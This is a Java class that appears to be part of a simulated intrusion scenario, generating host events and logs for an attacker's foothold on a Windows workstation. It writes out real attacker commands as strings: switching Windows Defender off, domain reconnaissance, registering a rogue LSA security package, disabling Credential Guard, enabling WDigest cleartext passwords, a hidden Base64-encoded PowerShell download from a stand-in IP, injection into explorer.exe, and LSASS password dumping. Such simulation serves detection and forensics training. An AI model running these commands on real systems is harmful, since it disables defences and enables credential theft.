package io.ashiato.cli.example.firstlook;

import static io.ashiato.cli.example.firstlook.Network.at;
import static io.ashiato.cli.example.firstlook.Tools.CONTROL_SERVER;
import static io.ashiato.cli.example.firstlook.Tools.IMPLANT_OUTPUT;
import static io.ashiato.cli.example.firstlook.Tools.INJECTOR;
import static io.ashiato.cli.example.firstlook.Tools.LSA;
import static io.ashiato.cli.example.firstlook.Tools.PASSWORD_TOOL;
import static io.ashiato.cli.example.firstlook.Tools.SCRIPT_SERVER;
import static io.ashiato.cli.example.firstlook.Tools.SECURITY_PACKAGE;
import static io.ashiato.cli.example.firstlook.Tools.SYSTEM32;
import static io.ashiato.cli.example.firstlook.Tools.WDIGEST;
import static io.ashiato.cli.example.firstlook.Tools.command;
import static java.nio.charset.StandardCharsets.UTF_16LE;

import io.ashiato.cli.example.host.Machine;
import io.ashiato.cli.example.host.RunningProcess;
import io.ashiato.cli.example.host.Workdays;
import java.time.Duration;
import java.time.Instant;
import java.util.Base64;
/// What the intruder does on the workstation to stay and to see: defences off, a library in lsass.exe, code in
/// explorer.exe, passwords.

final class Foothold {
    private static final String PACKAGES =
            "\"Security Packages\" /t REG_MULTI_SZ /d kerberos\\0msv1_0\\0schannel\\0wdigest\\0tspkg\\0pku2u\\0wdmsp /f";
    private static final String DEFENDER = "HKLM\\SOFTWARE\\Microsoft\\Windows Defender";

    private final Machine workstation;
    private final Workdays days;

    Foothold(Machine workstation, Workdays days) {
        this.workstation = workstation;
        this.days = days;
    }

    /// The first day, by the backdoor.
    void begin(RunningProcess implant) {
        switchDefenderOff(implant);
        lookRound(implant);
        settleInLsass(implant);
        loadAtEachStart();
    }

    /// Windows Defender off, by PowerShell.
    private void switchDefenderOff(RunningProcess implant) {
        RunningProcess shell = workstation.start(
                at("10-03 01:44:50"),
                implant,
                SYSTEM32 + "cmd.exe",
                "cmd.exe /c \"powershell >> " + IMPLANT_OUTPUT + " 2>&1\"");
        String disable = "Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true";
        RunningProcess powershell = workstation.startPowerShell(
                at("10-03 01:44:52"), shell, shell.session(), "-NoProfile -Command " + disable);
        workstation.runScript(at("10-03 01:44:54"), powershell, disable, "", false);
        RunningProcess engine = days.antimalware();
        for (String setting : new String[] {"DisableRealtimeMonitoring", "DisableBehaviorMonitoring"}) {
            workstation.setRegistry(
                    at("10-03 01:44:55"),
                    engine,
                    DEFENDER + "\\Real-Time Protection\\" + setting,
                    "DWORD (0x00000001)");
            workstation.logs.write(workstation.defender.settingChanged(
                    workstation.chance.within(at("10-03 01:44:56")),
                    "Default\\Real-Time Protection\\" + setting + " = 0x0",
                    DEFENDER + "\\Real-Time Protection\\" + setting + " = 0x1"));
        }
        workstation.logs.write(
                workstation.defender.realTimeProtectionOff(workstation.chance.within(at("10-03 01:44:57"))));
        workstation.logs.write(workstation.defender.scanningOff(workstation.chance.within(at("10-03 01:44:58"))));
    }

    private void lookRound(RunningProcess implant) {
        command(workstation, at("10-03 01:52:03"), implant, "ipconfig", "ipconfig /all");
        command(workstation, at("10-03 01:52:48"), implant, "net", "net group \"Domain Admins\" /domain");
        command(workstation, at("10-03 01:53:35"), implant, "nltest", "nltest /dclist:corp.example");
        command(workstation, at("10-03 01:55:10"), implant, "net", "net view /domain:CORP");
        command(workstation, at("10-03 01:58:26"), implant, "ping", "ping -n 1 APP-02");
        workstation.connect(at("10-03 02:00:05"), implant, CONTROL_SERVER, 443);
    }

    /// A library that lsass.exe loads, Credential Guard off, passwords kept in clear.
    private void settleInLsass(RunningProcess implant) {
        fetchEncoded(implant);
        setByReg(
                at("10-03 02:11:02"),
                implant,
                "reg add " + LSA + " /v " + PACKAGES,
                LSA + "\\Security Packages",
                "Binary Data");
        setByReg(
                at("10-03 02:12:37"),
                implant,
                "reg add " + LSA + " /v LsaCfgFlags /t REG_DWORD /d 0 /f",
                LSA + "\\LsaCfgFlags",
                "DWORD (0x00000000)");
        setByReg(
                at("10-03 02:13:09"),
                implant,
                "reg add " + WDIGEST + " /v UseLogonCredential /t REG_DWORD /d 1 /f",
                WDIGEST + "\\UseLogonCredential",
                "DWORD (0x00000001)");
    }

    /// From the next start on lsass.exe loads the library, to the end of the story.
    private void loadAtEachStart() {
        for (Instant start : days.startsAfter(at("10-03 02:11:02"))) {
            workstation.load(start.plusSeconds(9), days.lsass(start.plusSeconds(9)), SECURITY_PACKAGE, "");
            workstation.logs.write(workstation.security.securityPackageLoaded(
                    workstation.chance.within(start.plusSeconds(10)), SECURITY_PACKAGE + " : wdmsp"));
        }
    }

    /// The library comes by an encoded command.
    private void fetchEncoded(RunningProcess implant) {
        String fetch = "(New-Object Net.WebClient).DownloadFile('http://198.51.100.44:8080/v2/frame.png','"
                + SECURITY_PACKAGE + "')";
        String encoded = Base64.getEncoder().encodeToString(fetch.getBytes(UTF_16LE));
        RunningProcess shell = workstation.start(
                at("10-03 02:08:40"),
                implant,
                SYSTEM32 + "cmd.exe",
                "cmd.exe /c \"powershell -NoProfile -WindowStyle Hidden -EncodedCommand " + encoded + " >> "
                        + IMPLANT_OUTPUT + " 2>&1\"");
        RunningProcess powershell = workstation.startPowerShell(
                at("10-03 02:08:42"),
                shell,
                shell.session(),
                "-NoProfile -WindowStyle Hidden -EncodedCommand " + encoded);
        workstation.runScript(at("10-03 02:08:44"), powershell, fetch, "", true);
        workstation.connect(at("10-03 02:08:45"), powershell, SCRIPT_SERVER, 8080);
        workstation.writeFile(at("10-03 02:10:15"), powershell, SECURITY_PACKAGE);
    }

    /// Code from an encrypted file gets into explorer.exe.
    ///
    /// @return that explorer.exe
    RunningProcess injectIntoExplorer(Instant time) {
        RunningProcess rundll = workstation.start(
                time, days.lsass(time), SYSTEM32 + "rundll32.exe", "rundll32.exe " + INJECTOR + ",#1");
        workstation.load(time.plusSeconds(1), rundll, INJECTOR, "");
        RunningProcess explorer = days.explorer(time);
        workstation.logs.write(workstation.sysmon.processOpened(
                workstation.chance.within(time.plusSeconds(2)),
                rundll,
                rundll.id() + 88,
                explorer,
                0x143a,
                "C:\\Windows\\SYSTEM32\\ntdll.dll+9c524|C:\\Windows\\System32\\KERNELBASE.dll+6a685|"
                        + "UNKNOWN(00000000671C1A4F)"));
        workstation.logs.write(workstation.sysmon.remoteThreadCreated(
                workstation.chance.within(time.plusSeconds(3)), rundll, explorer, 9348, 0x04D10000L));
        workstation.connect(time.plusSeconds(5), explorer, CONTROL_SERVER, 443);
        return explorer;
    }

    /// The server's administrator has logged on to help, so his password is there too.
    void readPasswords(RunningProcess explorer) {
        days.visit(at("10-04 00:52:40"), Duration.ofMinutes(21), People.TANAKA, Network.TANAKAS_WORKSTATION);
        workstation.writeFile(at("10-04 01:20:11"), explorer, PASSWORD_TOOL);
        RunningProcess tool = workstation.start(
                at("10-04 01:20:14"), explorer, explorer.session().elevated(), PASSWORD_TOOL, PASSWORD_TOOL);
        workstation.logs.write(workstation.sysmon.processOpened(
                workstation.chance.within(at("10-04 01:20:15")),
                tool,
                tool.id() + 64,
                days.lsass(at("10-04 01:20:15")),
                0x1010,
                "C:\\Windows\\SYSTEM32\\ntdll.dll+9c524|C:\\Windows\\System32\\KERNELBASE.dll+2730e|" + PASSWORD_TOOL
                        + "+1c2f7"));
        workstation.writeFile(at("10-04 01:20:17"), tool, "C:\\ProgramData\\perflog.evt");
        workstation.end(at("10-04 01:20:18"), tool);
        workstation.connect(at("10-04 01:34:02"), explorer, CONTROL_SERVER, 443);
    }

    private void setByReg(Instant time, RunningProcess implant, String line, String value, String details) {
        RunningProcess reg = command(workstation, time, implant, "reg", line);
        workstation.setRegistry(time.plusSeconds(2), reg, value.replace("HKLM\\SYSTEM\\", "HKLM\\System\\"), details);
    }
}
